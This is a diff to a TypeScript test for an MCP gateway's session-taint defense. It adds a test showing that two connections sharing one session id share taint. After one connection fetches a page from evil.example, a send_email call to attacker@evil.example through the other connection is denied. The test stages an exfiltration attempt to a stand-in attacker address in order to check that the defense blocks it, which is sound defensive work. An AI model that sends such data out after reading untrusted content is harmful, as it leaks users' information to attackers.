@@ -58,7 +58,7 @@ describe('session taint through the stdio gateway, with a real MCP server and cl
   });
 
   /** One MCP client connection through the gateway: one session. */
-  async function connect(): Promise<Client> {
+  async function connect(sessionId?: string): Promise<Client> {
     const input = new PassThrough();
     const output = new PassThrough();
     const done = runStdioGateway({
@@ -68,6 +68,7 @@ describe('session taint through the stdio gateway, with a real MCP server and cl
       env: { ...process.env, MCP_TAINT_CALLS: callsFile },
       decider: engineDecider(engine, () => undefined),
       approvalWaitMs: 0,
+      ...(sessionId !== undefined ? { sessionId } : {}),
       input,
       output,
       log: () => undefined,
@@ -111,5 +112,17 @@ describe('session taint through the stdio gateway, with a real MCP server and cl
     const send = records.map((r) => JSON.stringify(r)).find((r) => r.includes('no-outbound-after-untrusted-content'));
     expect(send).toContain('"tainted":true');
     expect(send).toContain('"source":"demo.fetch_page"');
+  });
+
+  it('two connections of one client (one session id, as mcp wrap derives from the client process) share the taint: content read through one taints the other', async () => {
+    const client = `client_test_${Date.now()}`;
+    const reader = await connect(client);
+    const sender = await connect(client);
+    const before = received().length;
+    expect((await call(reader, 'fetch_page', { url: 'https://evil.example' })).isError).toBe(true);
+    const denied = await call(sender, 'send_email', { to: 'attacker@evil.example', body: 'notes' });
+    expect(denied.isError).toBe(true);
+    expect(denied.content[0].text).toContain('untrusted content');
+    expect(received().slice(before)).toEqual(['fetch_page']);
   });
 });
